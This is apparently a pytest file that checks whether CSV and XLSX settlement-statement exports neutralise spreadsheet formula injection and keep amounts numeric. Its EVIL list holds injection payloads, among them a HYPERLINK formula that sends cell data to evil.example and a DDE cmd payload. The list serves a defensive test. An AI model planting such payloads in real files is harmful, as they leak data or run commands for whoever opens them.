"""A text of a contract that a spreadsheet would run: no cell of an export is a formula, and amounts stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from gateway.documents.exports import HEAD, csv_bytes, rows, safe, xlsx_bytes
from gateway.outcomes.reconciling import DocumentsBand
from gateway.outcomes.settlement_terms import CorrectionForm
from gateway.settlement.statement_view import (
    PaidCreditor,
    PayerAccount,
    PayerPrice,
    PayerShare,
    PaymentEvidence,
    SettledContract,
    SettlementStatement,
    StatementLine,
    StatementSums,
    StatementTerms,
    StatementWindow,
)
from gateway.settlement.states import SettlementState
from policies.disclosure import Band

EVIL = [
    '=HYPERLINK("https://evil.example/?"&A1,"pay")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "|cmd",
    "%0A=1",
]


def made(text: str, *, minor: int = -150_005) -> SettlementStatement:
    """A statement in which every text that a contract may choose is this one."""
    payer = PayerAccount(
        "aalborg-kommune",
        text,
        1,
        1,
        (PayerPrice(text, 1),),
        text,
        "5799999008511",
        text,
        text,
        "5.58",
        due_minor=0,
        invoiced_minor=0,
        paid_minor=0,
    )
    line = StatementLine(
        line=f"{text}/correction",
        tariff=text,
        kind="correction",
        unit="week",
        quantity=-3,
        amount_minor=minor,
        shares=(PayerShare("aalborg-kommune", minor),),
        state=SettlementState.RELEASED,
        accepted_by=(),
        dispute=None,
        silence_on=None,
        silence_of=None,
    )
    window = StatementWindow(
        window=text,
        from_week="2018-W40",
        to_week="2018-W52",
        state=SettlementState.RELEASED,
        stated=False,
        document=PaymentEvidence("urn:uuid:1", "a", 0, 1, 1, date(2026, 1, 2), 1, "b"),
        on_documents=DocumentsBand(Band.FROM_10_TO_25, 5, text),
        lines=(line,),
        due_minor=minor,
        corrections_minor=minor,
        disputed_minor=0,
        invoiced_minor=0,
        paid_minor=0,
        superseded=(),
        next=None,
    )
    return SettlementStatement(
        schema="settlement-statement/1",
        contract=SettledContract("impact60", text, 1, "b"),
        currency="DKK",
        made_on=date(2026, 1, 2),
        demo=True,
        illustrative=(),
        payers=(payer,),
        creditor=PaidCreditor("operator", text, "99990015"),
        terms=StatementTerms(20, 30, CorrectionForm.OFFSET, "exempt"),
        opening=None,
        windows=(window,),
        cumulative=StatementSums(minor, minor, 0, 0, 0, minor, (), 0, cap_reached=False),
        bills=(),
    )


@pytest.mark.parametrize("text", EVIL)
def test_no_text_becomes_a_formula_in_csv(text: str):
    body = csv_bytes(HEAD, rows(made(text))).decode("utf-8-sig")
    [_, row] = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
    cells = dict(zip(HEAD, row, strict=True))
    for name in ("window", "tariff", "order_number", "person_reference"):
        assert cells[name] == f"'{text}"
    assert cells["amount"] == "-1500,05"  # a number, not a formula
    assert cells["amount_minor"] == "-150005"


@pytest.mark.parametrize("text", EVIL)
def test_no_text_becomes_a_formula_or_a_link_in_xlsx(text: str):
    data = xlsx_bytes(HEAD, rows(made(text)), title=text, on=date(2026, 1, 2))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            content = archive.read(name)
            assert b"<f>" not in content, name
            assert b"<hyperlink" not in content, name
            assert b"externalLink" not in content, name
    sheet = load_workbook(io.BytesIO(data)).active
    cells = dict(zip(HEAD, sheet[2], strict=True))
    assert cells["tariff"].data_type == "s"
    assert cells["tariff"].value.startswith("'")
    assert cells["amount"].data_type == "n"
    assert Decimal(str(cells["amount"].value)) == Decimal("-1500.05")
    assert cells["quantity"].value == -3


def test_what_is_no_formula_is_left_as_it_is():
    """Positive control: the mark is a choice, not a habit."""
    for text in ("weeks_in_work_or_education", "2019H1", "Jobcenter, afregning", "a=b", ""):
        assert safe(text) == text


def test_an_amount_that_a_spreadsheet_would_round_is_refused():
    with pytest.raises(ValueError, match="round"):
        rows(made("x", minor=10**15))
